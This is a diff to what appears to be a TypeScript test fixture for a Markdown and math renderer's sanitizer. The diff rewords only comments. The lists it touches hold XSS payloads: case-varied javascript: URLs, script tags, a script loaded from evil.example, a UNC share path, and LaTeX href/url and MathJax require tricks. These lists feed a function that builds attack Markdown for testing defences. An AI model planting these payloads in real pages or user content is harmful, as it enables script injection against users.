@@ -1,4 +1,4 @@
-/** An address that would run something, in every spelling that somebody has tried. */
+/** Addresses that would run a script, in every known spelling. */
 const addresses: readonly string[] = [
   "javascript:alert(1)",
   "JaVaScRiPt:alert(1)",
@@ -42,7 +42,7 @@ const addresses: readonly string[] = [
   "\\\\evil.example\\share",
 ];
 
-/** Markup that would run something, or fetch it. */
+/** Markup that would run a script or load something. */
 const markup: readonly string[] = [
   "<script>alert(1)</script>",
   "<script src=//evil.example/x.js></script>",
@@ -98,7 +98,7 @@ const markup: readonly string[] = [
   "`-alert(1)-`",
 ];
 
-/** Formulas that ask for more than mathematics. */
+/** Formulas that contain more than mathematics. */
 const formulas: readonly string[] = [
   "$\\href{javascript:alert(1)}{x}$",
   "$\\url{javascript:alert(1)}$",
@@ -112,7 +112,7 @@ const formulas: readonly string[] = [
   "$\\class{x}{y}$ $\\style{color:red}{y}$ $\\require{x}$",
 ];
 
-/** All attacks as Markdown: an address in each place that takes one, markup raw, in code and in a link's text. */
+/** All attacks as Markdown: each address wherever Markdown has one, raw markup, markup in code and in link text. */
 export function attacks(fromElsewhere: readonly string[]): string[] {
   const links = addresses.flatMap((address) => [
     `[click](${address})`,
